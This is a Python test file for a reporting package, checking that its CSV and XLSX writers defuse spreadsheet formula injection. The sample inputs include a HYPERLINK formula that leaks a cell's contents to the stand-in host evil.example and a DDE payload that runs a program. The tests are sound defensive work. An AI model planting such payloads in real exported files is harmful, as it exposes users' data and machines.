"""Formula injection (issue 14, item 4): every CSV and XLSX writer keeps risky text as text and
numbers as numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter

from datamonger.reports.cells import csv_cell, csv_row, is_risky, xlsx_write_row

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"x")'
RISKY = [EVIL, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\tx", "\rx", "=1"]
SAFE = ["plain", "a=b", "", " =x", "-5", "+1.5", "-1e3", "12"]


@pytest.mark.parametrize("text", RISKY)
def test_risky_text_is_prefixed_in_csv(text: str) -> None:
    assert is_risky(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [*SAFE, -5, -2.5, 0, None, True])
def test_numbers_and_harmless_text_are_left_alone(value: object) -> None:
    assert csv_cell(value) == value


def _read_xlsx(path: Path, sheet: str | None = None) -> list[tuple[object, str]]:
    """(value, openpyxl data type) of every cell: 'f' is a formula, 's' text, 'n' a number."""
    book = openpyxl.load_workbook(path)
    cells = []
    for ws in [book[sheet]] if sheet else book.worksheets:
        for row in ws.iter_rows():
            cells += [(c.value, c.data_type) for c in row if c.value is not None]
    return cells


def test_xlsx_writes_text_as_text_and_numbers_as_numbers(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    book = xlsxwriter.Workbook(str(path))
    ws = book.add_worksheet()
    xlsx_write_row(ws, 0, 0, [*RISKY, "http://evil.example", -5, 2.5, None, "-5"])
    book.close()
    cells = _read_xlsx(path)
    assert all(t != "f" for _, t in cells)
    assert (EVIL, "s") in cells and ("http://evil.example", "s") in cells
    assert (-5, "n") in cells and (2.5, "n") in cells and ("-5", "s") in cells
    assert not openpyxl.load_workbook(path).active._hyperlinks  # type: ignore[union-attr]


def test_validation_csv_and_workbook(tmp_path: Path) -> None:
    from datamonger.store import Store
    from datamonger.validation.report import Issue, Report
    from datamonger.validation.xlsx import write_xlsx

    issue = Issue(
        "101",
        "error",
        "ssda903",
        2025,
        "Header",
        "f.csv",
        2,
        EVIL,
        ("DOB",),
        {"DOB": "=1+1"},
        "bad",
    )
    report = Report()
    if hasattr(report, "table"):  # issues as one Arrow table, written by reports.validation
        from datamonger.reports.validation import write_csv
        from datamonger.validation.report import issues_table

        report.table = issues_table([issue])
        write_csv(report, tmp_path / "v.csv")
        text = (tmp_path / "v.csv").read_text()
    else:
        report.issues.append(issue)
        text = report.to_csv()
    rows = list(csv.reader(io.StringIO(text)))
    assert "'" + EVIL in rows[1]
    assert all(not c.startswith(("=", "+", "-", "@")) for c in rows[1])
    path = tmp_path / "v.xlsx"
    with Store(tmp_path / "la.duckdb") as store:
        write_xlsx(report, store, path)
    cells = _read_xlsx(path)
    assert (EVIL, "s") in cells and all(t != "f" for _, t in cells)


def test_cli_writers(tmp_path: Path) -> None:
    from datamonger.cli.benchmarks import _csv, _xlsx
    from datamonger.cli.indicators import _write_rows
    from datamonger.cli.options import Format

    text = _csv([{"la": EVIL, "value": -3.5}])
    assert list(csv.reader(io.StringIO(text)))[1] == ["'" + EVIL, "-3.5"]
    _xlsx([{"la": EVIL, "value": -3.5}], tmp_path / "b.xlsx", "sheet")
    assert set(_read_xlsx(tmp_path / "b.xlsx")) >= {(EVIL, "s"), (-3.5, "n")}
    _write_rows(["child", "n"], [[EVIL, -1]], Format.xlsx, tmp_path / "i.xlsx", "t")
    assert set(_read_xlsx(tmp_path / "i.xlsx")) >= {(EVIL, "s"), (-1, "n")}
    out = tmp_path / "i.csv"
    _write_rows(["child", "n"], [[EVIL, -1]], Format.csv, out, "t")
    assert list(csv.reader(io.StringIO(out.read_text())))[1] == ["'" + EVIL, "-1"]


def test_csv_row() -> None:
    assert csv_row(["=x", 1, "y"]) == ["'=x", 1, "y"]


def test_the_sql_form_of_the_csv_cell_rule_agrees_with_the_python_one() -> None:
    import duckdb

    from datamonger.reports.cells import csv_cell, csv_cell_sql

    values = ["=1+2", "-5", "+1.5e3", "@a", "\tx", "\rx", "-x", "ok", "", None, ".5", "-", EVIL]
    con = duckdb.connect()
    con.execute("CREATE TABLE t (k INTEGER, x VARCHAR)")
    con.executemany("INSERT INTO t VALUES (?, ?)", list(enumerate(values)))
    got = [r[0] for r in con.execute(f"SELECT {csv_cell_sql('x')} FROM t ORDER BY k").fetchall()]
    assert got == [csv_cell(v) or None for v in values]
